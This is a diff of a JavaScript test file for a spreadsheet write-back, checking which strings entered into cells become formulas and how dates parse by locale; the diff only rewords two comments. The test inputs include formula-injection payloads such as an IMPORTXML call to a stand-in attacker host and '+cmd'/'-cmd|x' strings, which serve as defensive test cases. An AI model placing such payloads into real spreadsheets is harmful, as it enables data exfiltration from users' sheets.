@@ -39,7 +39,8 @@ describe('a string set into a cell is parsed as if typed', () => {
     expect(enter(input)).toEqual([value, '', shown]);
   });
 
-  // The injection that the write-back must withstand (contract 0.7); `+` and `-` are unverified, the worse is assumed.
+  // The injection that the write-back must withstand (docs/apps-script.md#writing-cells); `+` and `-` are unverified,
+  // the worse is assumed.
   it.each(['=1+1', '=IMPORTXML("https://evil.example/", "//a")', '=x', '+cmd', '-cmd|x', '+66 81 234 5678'])(
     '%j becomes a formula',
     (input) => {
@@ -55,7 +56,7 @@ describe('a string set into a cell is parsed as if typed', () => {
     },
   );
 
-  // The order of a date and the decimal mark are the locale's (contract 1.6).
+  // The order of a date and the decimal mark are the locale's (docs/apps-script.md#writing-cells).
   it.each([
     ['03/04/2026', 'en_US', 'Date 2026-03-04T00:00:00.000Z', '3/4/2026'],
     ['03/04/2026', 'th_TH', 'Date 2026-04-03T00:00:00.000Z', '3/4/2026'],
